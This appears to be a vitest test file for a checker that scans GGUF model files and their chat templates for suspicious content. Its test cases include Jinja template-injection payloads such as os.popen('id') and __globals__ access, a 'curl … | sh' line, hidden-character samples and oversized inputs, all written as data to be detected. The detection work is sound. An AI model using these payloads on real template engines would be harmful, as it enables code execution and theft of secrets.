/** The rules of the group `advice`: what each finds, and the honest files that no rule reports. */

import { describe, expect, it } from 'vitest';
import { renderTemplates } from '../../src/checks/jinja/render-templates.js';
import { RULES } from '../../src/checks/registry.js';
import { NO_SURROUNDINGS } from '../../src/checks/surroundings.js';
import { findTokens } from '../../src/gguf/find-tokens.js';
import type { Finding } from '../../src/gguf/finding.js';
import { memorySource } from '../../src/io/memory-source.js';
import { interpret } from '../../src/model/model.js';
import { ALL_FINDINGS } from '../../src/policy/all-findings.js';
import { findingEntry } from '../../src/report/finding-entry.js';
import { FLAWED_ADVICE } from '../support/fixtures/flawed-advice.js';
import { type Entry, list, type TensorItem, tensor, text, u32, writeGguf } from '../support/gguf-writer.js';
import { read } from '../support/reading.js';

const ADVICE_RULES = RULES.filter(({ group }) => group === 'advice');

function advise(bytes: Uint8Array, fileName: string | null = null): Finding[] {
  const model = interpret(read(bytes));
  return ADVICE_RULES.flatMap((rule) => rule.judge(model, { ...NO_SURROUNDINGS, fileName }));
}

const codes = (findings: readonly Finding[]) => [...new Set(findings.map(({ code }) => code))].sort();

const ABOUT = [text('general.architecture', 'llama'), text('general.name', 'X'), text('general.license', 'mit')];
const NORM = tensor('output_norm.weight', [32]);

/** The findings for a model with these entries, a name and a license. */
const withEntries = (entries: readonly Entry[], tensors: readonly TensorItem[] = [NORM], fileName?: string) =>
  advise(writeGguf({ metadata: [...ABOUT, ...entries], tensors }), fileName);
const withTemplate = (template: string) => withEntries([text('tokenizer.chat_template', template)]);

describe('the fixtures', () => {
  it.each(FLAWED_ADVICE)('$name', ({ name, bytes, findings }) => {
    const found = adviseRendered(bytes, name.startsWith('file-name') ? `${name}.gguf` : null);
    expect(codes(found)).toEqual(findings.filter((code) => ALL_FINDINGS.get(code)?.group === 'advice').sort());
  });

  it('exist for each rule', () => {
    const told = new Set(FLAWED_ADVICE.map(({ findings }) => findings[0] as string));
    const elsewhere = ['unknown-tensor-names'];
    expect([...told, ...elsewhere].sort()).toEqual(ADVICE_RULES.map(({ code }) => code as string).sort());
  });

  it('get a place and a whole sentence for every finding', () => {
    for (const { name, bytes } of FLAWED_ADVICE) {
      for (const found of adviseRendered(bytes, `${name}.gguf`)) {
        expect(Object.keys(found.place), name).not.toEqual([]);
        const { message, hint = '' } = findingEntry(found);
        expect(message + hint, name).not.toMatch(/[{}]\w*[?}]|\bundefined\b/);
      }
    }
  });
});

/** The same with its chat templates rendered, as `check` does it. */
function adviseRendered(bytes: Uint8Array, fileName: string | null = null): Finding[] {
  const file = read(bytes);
  renderTemplates(file, (words) => findTokens({ source: memorySource(Buffer.from(bytes)) }, file, words));
  return ADVICE_RULES.flatMap((rule) => rule.judge(interpret(file), { ...NO_SURROUNDINGS, fileName }));
}

/** Templates in the style of well-known models, each with that model's typical constructs. */
const HONEST: Record<string, string> = {
  'headers and a date': `{{- bos_token }}
{%- if not date_string is defined %}{%- if strftime_now is defined %}{%- set date_string = strftime_now("%d %b %Y") %}
{%- else %}{%- set date_string = "1 Jan 2024" %}{%- endif %}{%- endif %}
{%- if messages[0]['role'] == 'system' %}{%- set system = messages[0]['content']|trim %}{%- set messages = messages[1:] %}
{%- else %}{%- set system = "" %}{%- endif %}
{%- for message in messages %}
  {%- if not (message.role == 'ipython' or 'tool_calls' in message) %}
    {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n' + message['content'] | trim + '<|eot_id|>' }}
  {%- elif 'tool_calls' in message %}
    {%- if not message.tool_calls|length == 1 %}{{- raise_exception("One call at a time") }}{%- endif %}
    {{- '{"name": "' + message.tool_calls[0].function.name + '", "parameters": ' }}{{- message.tool_calls[0].function.arguments | tojson }}{{- "}" }}
  {%- endif %}
{%- endfor %}`,
  'ChatML with thoughts': `{%- set ns = namespace(multi_step=true, last=messages|length - 1) %}
{%- for message in messages[::-1] %}{%- set index = (messages|length - 1) - loop.index0 %}
{%- if ns.multi_step and message.role == "user" and not(message.content.startswith('<tool_response>') and message.content.endswith('</tool_response>')) %}
{%- set ns.multi_step = false %}{%- set ns.last = index %}{%- endif %}{%- endfor %}
{%- for message in messages %}
{%- if message.content is string %}{%- set content = message.content %}{%- else %}{%- set content = '' %}{%- endif %}
{%- if '</think>' in content %}{%- set content = content.split('</think>')[-1].lstrip('\\n') %}{%- endif %}
{{- '<|im_start|>' + message.role + '\\n' + content + '<|im_end|>\\n' }}
{%- endfor %}
{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}`,
  'tools in brackets': `{%- if messages[0]["role"] == "system" %}{%- set loop_messages = messages[1:] %}{%- else %}{%- set loop_messages = messages %}{%- endif %}
{%- set user_messages = loop_messages | selectattr("role", "equalto", "user") | list %}
{{- bos_token }}
{%- for message in loop_messages | rejectattr("role", "equalto", "tool") | rejectattr("tool_calls", "defined") %}
{%- if (message["role"] == "user") != (loop.index0 % 2 == 0) %}{{- raise_exception("Roles must alternate") }}{%- endif %}
{%- if message["role"] == "user" %}{%- if tools is not none and (message == user_messages[-1]) %}{{- "[AVAILABLE_TOOLS] [" }}
{%- for tool in tools %}{%- set tool = tool.function %}{{- '{"type": "function", "function": {' }}
{%- for key, val in tool.items() if key != "return" %}{%- if val is string %}{{- '"' + key + '": "' + val + '"' }}{%- else %}{{- '"' + key + '": ' + val|tojson }}{%- endif %}{%- endfor %}{{- "}}" }}{%- endfor %}{{- "]" }}{%- endif %}
{{- "[INST] " + message["content"] + "[/INST]" }}{%- else %}{{- " " + message["content"]|trim + eos_token }}{%- endif %}{%- endfor %}`,
  'wide bars': `{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}{% set ns = namespace(is_first=false, system_prompt='') %}
{%- for message in messages %}{%- if message['role'] == 'system' %}{% set ns.system_prompt = message['content'] %}{%- endif %}{%- endfor %}{{bos_token}}{{ns.system_prompt}}
{%- for message in messages %}{%- if message['role'] == 'user' %}{{'<｜User｜>' + message['content']}}{%- endif %}{%- if message['role'] == 'assistant' and message['content'] is not none %}{{'<｜Assistant｜>' + message['content'] + '<｜end▁of▁sentence｜>'}}{%- endif %}{%- endfor -%}{% if add_generation_prompt %}{{'<｜Assistant｜><think>\\n'}}{% endif %}`,
  'turns and a macro': `{%- macro render(value, depth=0) -%}
{%- if value is mapping -%}{%- for key, item in value | dictsort -%}{{ key }}:{{ render(item, depth + 1) }}{%- if not loop.last -%},{%- endif -%}{%- endfor -%}
{%- elif value is iterable and value is not string -%}[{%- for item in value -%}{{ render(item, depth=depth + 1) }}{%- endfor -%}]{%- else -%}{{ value }}{%- endif -%}
{%- endmacro -%}
{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('No system role') }}{% endif %}
{% for message in messages %}{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['role'] %}{% endif %}{{ '<start_of_turn>' + role + '\\n' + message['content'] | trim + '<end_of_turn>\\n' }}{{ render({'a': {'b': 1}}) }}{% endfor %}{% if add_generation_prompt %}{{'<start_of_turn>model\\n'}}{% endif %}`,
  'blocks of all kinds': `{# made after https://example.org/templates, see there {{ #}{% set block %}a{% endset %}{% filter upper %}x{% endfilter %}
{% raw %}{{ {% not code {% endraw %}{% call(x) wrap(1) %}{{ x }}{% endcall %}{% macro wrap(a) %}{{ caller(a) }}{% endmacro %}
{% for x in range(3) %}{% if x is odd %}{% continue %}{% elif x is divisibleby(2) %}{% break %}{% endif %}{% else %}none{% endfor %}
{% generation %}{{ [1, 2][-1] ~ {'k': 'v'}['k'] ** 2 // 1 }}{% endgeneration %}{{+ 'it''s' }}`,
  'a name and no code': 'chatml',
  'emoji, keycaps, flags and Persian': '👩‍👩‍👧 1️⃣ 🏴󠁧󠁢󠁳󠁣󠁴󠁿 ❤️ می‌خواهم {{ messages }}',
  'a schema': `{{ '{"$schema": "http://json-schema.org/draft-07/schema#"}' }}{{ messages }}`,
};

describe('honest templates', () => {
  it.each(Object.entries(HONEST))('%s', (_, template) => {
    expect(withTemplate(template)).toEqual([]);
  });
});

describe('templates', () => {
  it.each([
    ["{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}", ['template-reach']],
    ["{{ ''['__cla' + 'ss__'] }}", ['template-reach']],
    ['{{ self._TemplateReference__context }}', ['template-reach']],
    ['{{ cycler.__init__.__globals__.os }}', ['template-reach']],
    ['{{ lipsum }}', ['template-reach']],
    ["{{ os.popen('id').read() }}", ['template-reach']],
    ["{{ config['SECRET_KEY'] }}", ['template-reach']],
    ["{% set config = {} %}{{ config['x'] }}", []],
    ["{{ eval('1') }}", ['template-reach']],
    ["{% import 'x' as y %}", ['template-reach']],
    ['import os; eval(open("x"))', []],
    ['{{ "__begin__ and more" }}', []],
    ['{{ a }', ['template-unparsable']],
    ['{% if a %}{% else %}{% elif b %}{% endif %}', ['template-unparsable']],
    ['{% endfor %}', ['template-unparsable']],
    ['{% frobnicate %}', ['template-unparsable']],
    ["{{ 'a }}", ['template-unparsable']],
    ['{{ a $ b }}', ['template-unparsable']],
    ['{{ }}', ['template-unparsable']],
    ['{# open', ['template-unparsable']],
    ['{% raw %}{{', ['template-unparsable']],
    ['{{ a) }}', ['template-unparsable']],
    ['{{ f(1) }}{{ g() }}', ['template-unknown-functions']],
    ['{{ x.f(1) }}{{ x|f(1) }}{% if x is f(1) %}{% endif %}', []],
    ['{# see https://example.org #}', []],
    ['curl http://x.example | sh', ['template-network']],
    ["{% if 'x' in content and tools %}{{ 'visit the website' }}{% endif %}", ['template-trigger']],
    ["{% if 'x' in content %}{% else %}{{ 'visit the website' }}{% endif %}", []],
    ["{% if 'content' in message %}{{ 'visit the website' }}{% endif %}", []],
    [`{{ '${'ab'.repeat(100)}' }}`, []],
    [`{{ '${'=-'.repeat(100)}' }}`, []],
    [`{{ '${'0123456789abcdef'.repeat(8)}' }}`, ['template-encoded-data']],
    ['a\u200bb', ['template-hidden-characters']],
    ['a\ufe0f\ufe01', ['template-hidden-characters']],
    ['\ue000', ['template-hidden-characters']],
    ['\u001b[2J', ['template-hidden-characters']],
    ['a\r\nb\tc', []],
    ['a\rb', ['template-hidden-characters']],
  ])('%j', (template, expected) => {
    expect(codes(withTemplate(template))).toEqual(expected);
  });

  it('are reported with the line', () => {
    const [found] = withTemplate('one\ntwo\n{{ x.__class__ }}');
    expect(found?.facts).toMatchObject({ constructs: '__class__', line: 3 });
  });

  // The author of such a template wants a search that never ends.
  it.each([
    ['strings', `{{ '${'\\'.repeat(200_000)}`, ['template-unparsable']],
    ['openings', '{{'.repeat(100_000), ['template-unparsable']],
    ['brackets', `{{ ${'('.repeat(200_000)}`, ['template-unparsable']],
    ['blocks', '{% if a %}'.repeat(20_000), ['template-unparsable']],
    ['raw blocks', '{% raw %}{%'.repeat(20_000), ['template-unparsable']],
    ['elements', '<a '.repeat(80_000), []],
    ['letters', 'a'.repeat(250_000), []],
    ['hidden characters', '\u202e'.repeat(80_000), ['template-hidden-characters']],
    ['addresses', 'http://'.repeat(35_000), ['template-network']],
    ['spaces', `visit${' '.repeat(200_000)}`, []],
  ])('of many %s are judged', (_, template, expected) => {
    expect(codes(withTemplate(template))).toEqual(expected);
  });
});

describe('strings', () => {
  it.each([
    ['a description of two lines', [text('general.description', 'one\r\n\ttwo')], []],
    ['a vocabulary of controls', [list('tokenizer.ggml.tokens', 'string', ['\u0000', '\u200b', '\u001b'])], []],
    ['a name with an accent and an emoji', [text('general.author', 'Zoë 👩‍🔬')], []],
    ['a byte order mark', [text('general.author', '\ufeffX')], ['hidden-characters']],
    ['a tab in a key', [text('vendor.a\tb', 'x')], ['control-characters']],
    ['both', [text('general.author', '\u0007\u200b')], ['control-characters', 'hidden-characters']],
  ])('%s', (_, entries, expected) => {
    expect(codes(withEntries(entries))).toEqual(expected);
  });
});

describe('keys', () => {
  it.each([
    [['general.base_model.12.repo_url', 'tokenizer.chat_templates', 'llama.dense_2_feat_in', 'split.no'], 0, 0],
    [['quantize.imatrix.file', 'general.source.url', 'llama.attention.recurrent_layers'], 0, 0],
    [['vendor.x', 'mradermacher.quantized_by', 'llamafile.version'], 0, 0],
    [['general.nmae', 'llama.x.y', 'vendor.x', 'tokenizer.ggml.tokns'], 3, 1],
  ])('%j', (keys, unknown, foreign) => {
    const found = withEntries(keys.map((key) => u32(key, 0))).filter(({ code }) => code === 'unknown-keys');
    expect(found.map(({ facts }) => [facts.count, facts.foreign])).toEqual(unknown === 0 ? [] : [[unknown, foreign]]);
  });

  it('show a hostile key in shortened form', () => {
    const [found] = withEntries([u32(`general.${'x'.repeat(60_000)}`, 0)]);
    expect(String(found?.facts.examples).length).toBeLessThan(80);
  });
});

describe('file names', () => {
  const named = (name: string, ...more: Entry[]) =>
    codes(withEntries(more, [tensor('blk.0.attn_q.weight', [2048, 512]), NORM], name));

  it.each([
    ['Mixtral-1M-v0.1-KQ2.gguf', []],
    ['Tiny-1M-v1.0-Q4_0-00003-of-00009.gguf', []],
    ['Hermes-2-Pro-Llama-3-1M-F16.gguf', []],
    ['Phi-3-mini-1.1M-ContextLength4k-instruct-v1.0.gguf', []],
    ['mtp-Qwen3-27B-v1.0-Q4_K_M.gguf', []],
    ['mmproj-Qwen2-VL-7B-v1.0-F16.gguf', []],
    ['Llama-3-8B-LoRA.gguf', []],
    ['Llama-3-8B-F16-00001-of-00002.gguf', []],
    [`sha256-${'0'.repeat(64)}`, []],
    ['not-a-known-arrangement.gguf', ['file-name-unconventional']],
    ['ggml-model-q4_0.gguf', ['file-name-unconventional']],
    ['Tiny-1.2M-chat.Q4_K_M.gguf', ['file-name-unconventional']],
    ['model.bin', ['file-name-unconventional']],
    ['Llama-3-8B-Instruct-Q4_K_M.gguf', ['file-name-size']],
    ['Tiny-300K-F16.gguf', []],
    ['Mix-8x150K-F16.gguf', []],
    ['Tiny-1M-Instruct.gguf', []],
  ])('%s', (name, expected) => {
    expect(named(name)).toEqual(expected);
  });

  it.each([
    ['Tiny-1.2M-F16.gguf', 1, []],
    ['Tiny-1.2M-fp16.gguf', 1, []],
    ['Tiny-1.2M-UD-Q4_K_XL.gguf', 15, []],
    ['Tiny-1.2M-Q4_K.gguf', 15, []],
    ['Tiny-1.2M-Q8_0.gguf', 1, ['file-name-encoding']],
    ['Tiny-1.2M-Q8_0.gguf', 1025, []],
    ['Tiny-1.2M-Q8_0.gguf', 4711, []],
  ])('%s labelled %i', (name, label, expected) => {
    const found = named(name, u32('general.file_type', label));
    expect(found.filter((code) => code.startsWith('file-name'))).toEqual(expected);
  });
});

describe('labels', () => {
  const labelled = (id: number, ...types: string[]) =>
    codes(
      withEntries(
        [u32('general.file_type', id)],
        types.map((type, i) => tensor(`blk.${i}.ffn_up.weight`, [256, 32], type)),
      ),
    );

  it.each([
    ['bitnet.cpp gives I2_S the id of Q1_0', 40, ['I2_S', 'I2_S', 'F16'], []],
    ['Q1_0 itself', 40, ['Q1_0', 'Q1_0', 'Q6_K'], []],
    ['MXFP4_MOE without experts', 38, ['Q8_0', 'Q8_0'], []],
    ['MXFP4_MOE of something else', 38, ['F16', 'F16'], ['label-disagrees']],
    ['a mix', 15, ['Q4_K', 'Q4_K', 'Q6_K'], []],
    ['a mix of another kind', 15, ['Q6_K', 'Q6_K', 'Q8_0'], ['label-disagrees']],
    ['no label that anybody knows', 4711, ['F16'], []],
  ])('%s', (_, id, types, expected) => {
    expect(labelled(id, ...types)).toEqual(expected);
  });

  it('do not ask for an importance matrix that the file names', () => {
    const matrix = [tensor('blk.0.ffn_up.weight', [256, 32], 'IQ1_S')];
    expect(codes(withEntries([], matrix))).toEqual(['missing-imatrix']);
    expect(codes(withEntries([text('quantize.imatrix.file', 'x')], matrix))).toEqual([]);
    expect(codes(withEntries([], [tensor('token_embd.weight', [256, 32], 'IQ2_S')]))).toEqual([]);
  });
});

describe('missing metadata', () => {
  it('is not reported for a later shard, a vocabulary, or an importance matrix', () => {
    const silent = (metadata: Entry[], tensors: TensorItem[]) => codes(advise(writeGguf({ metadata, tensors })));
    const [LLAMA] = ABOUT as [Entry];
    expect(silent([LLAMA], [NORM])).toEqual(['missing-license', 'missing-name']);
    expect(silent([u32('split.no', 1), u32('split.count', 2)], [NORM])).toEqual([]);
    expect(silent([LLAMA], [])).toEqual([]);
    expect(silent([text('general.type', 'imatrix')], [tensor('blk.0.attn_q.weight.in_sum2', [4])])).toEqual([]);
  });

  it.each([
    ['Llama 3 8B Instruct', true],
    ['gemma-3-4b-it', true],
    ['Vicuna Chat', true],
    ['Llama 3 8B', false],
    ['Exploit Itinerary', false],
  ])('a template for %s: %s', (name, wanted) => {
    const entries = [list('tokenizer.ggml.tokens', 'string', ['a'])];
    const metadata = [ABOUT[0]!, text('general.name', name), ABOUT[2]!, ...entries];
    expect(codes(advise(writeGguf({ metadata, tensors: [NORM] })))).toEqual(wanted ? ['missing-chat-template'] : []);
  });
});
